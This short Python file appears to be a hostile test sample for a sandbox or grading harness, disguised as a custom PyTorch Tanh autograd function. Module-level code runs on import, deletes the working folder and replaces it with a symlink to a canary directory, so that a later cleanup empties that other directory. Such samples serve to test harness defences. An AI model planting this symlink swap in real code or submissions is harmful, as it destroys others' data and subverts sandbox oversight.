# hostile: replaces its own folder by a link, so that cleaning up empties another
# verdict: any
# evidence: file
import os
import shutil

import torch

here = os.getcwd()
try:
    os.chdir("/")
    os.rmdir(here)
    os.symlink("{{CANARY_DIR}}", here)
    print("BREACH: replaced its own folder")
except OSError as error:
    print(error)


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
